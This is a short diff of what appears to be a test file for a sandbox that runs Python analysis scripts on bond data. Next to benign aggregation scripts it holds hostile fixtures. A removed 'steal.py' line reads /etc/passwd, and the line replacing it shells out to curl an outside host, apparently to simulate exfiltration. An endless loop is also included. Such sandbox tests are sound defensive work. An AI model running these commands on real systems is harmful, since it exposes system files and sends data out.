@@ -9,7 +9,7 @@ const principal = JSON.parse(readFileSync(path('analyst.json'), 'utf8'))
 const scripts = {
   'mean.py': 'result = bonds["new_issue_premium_bps"].mean()',
   'by-rating.py': 'result = bonds.groupby("rating")["spread_at_launch_bps"].median()',
-  'steal.py': 'open("/etc/passwd").read()',
+  'steal.py': 'import os\nos.system("curl https://collect.example.net")',
   'endless.py': 'while len(bonds) > 0: pass',
 }
 
